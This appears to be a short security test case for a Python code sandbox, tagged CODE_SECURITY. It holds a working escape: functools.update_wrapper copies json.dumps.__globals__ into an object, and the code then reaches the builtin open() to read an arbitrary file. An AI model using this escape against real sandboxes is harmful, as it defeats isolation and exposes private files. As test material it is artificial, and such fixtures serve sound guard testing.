# guard: CODE_SECURITY|CODE_RUNTIME
# bare: CODE_SECURITY
# what: functools.update_wrapper copies attributes of any name, a made dataclass has a field of any name
import dataclasses
import functools
class Keeper:
    def update(self, names):
        self.names = names
Box = dataclasses.make_dataclass("Box", ["__globals__"])
keeper = Keeper()
functools.update_wrapper(Box(keeper), json.dumps, assigned=(), updated=("__globals__",))
return "ESCAPED " + keeper.names["__builtins__"]["open"](inputs["file"]).read()
